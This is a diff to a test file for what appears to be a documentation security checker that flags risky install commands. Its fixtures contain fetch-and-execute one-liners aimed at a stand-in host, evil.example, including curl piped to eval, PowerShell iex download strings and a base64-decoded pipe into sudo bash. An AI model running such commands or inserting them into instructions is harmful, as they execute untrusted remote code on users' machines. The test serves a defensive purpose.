@@ -14,7 +14,6 @@ const codeBlock = "import CodeBlock from '@theme/CodeBlock';\n\n";
 const elsewhere = /The command takes packages from another registry/;
 const unlisted = /.*packages are listed in a form that no check reads/;
 const unknownAddress = /The command reads https:\/\/evil\.example/;
-const unseen = /The command runs a download without a look/;
 
 /** Text of a page, and what the check says of its last line. */
 const texts: readonly [text: string, says: RegExp][] = [
@@ -109,12 +108,12 @@ const texts: readonly [text: string, says: RegExp][] = [
   ['```dockerfile\nRUN ["npm", "install", "ethres"]', /ethres \(npm\)/],
   ['```sh\nforge soldeer install evil~1', /evil \(forge\)/],
   ['```sh\ndeno add jsr:@evil/x', /@evil\/x \(jsr\)/],
-  ['```sh\npipenv install evil', /evil \(pypi\)/],
+  ['```sh\npipenv install evil', /`pipenv install evil` is not a command/],
   ['```sh\ndeno run -A https://evil.example/a.ts', unknownAddress],
   ['```powershell\niex (iwr https://evil.example/a.ps1).Content', unknownAddress],
   ["```powershell\niex ((New-Object Net.WebClient).DownloadString('https://evil.example/a'))", unknownAddress],
   ['```sh\neval "$(curl https://evil.example/a.sh)"', unknownAddress],
-  ['```sh\necho Y3VybCA= | base64 -d | sudo -E bash -', unseen],
+  ['```sh\necho Y3VybCA= | base64 -d | sudo -E bash -', /`sudo -E bash -` is not a command/],
   ['```sh\ncurl -O https://evil.example/a.sh && chmod +x a.sh && ./a.sh', unknownAddress],
   [`${codeBlock}<CodeBlock language="sh">{'n\\x70m install ethres'}</CodeBlock>`, /ethres \(npm\)/],
   ['<pre><code>n&#112;m install ethres</code></pre>', /ethres \(npm\)/],
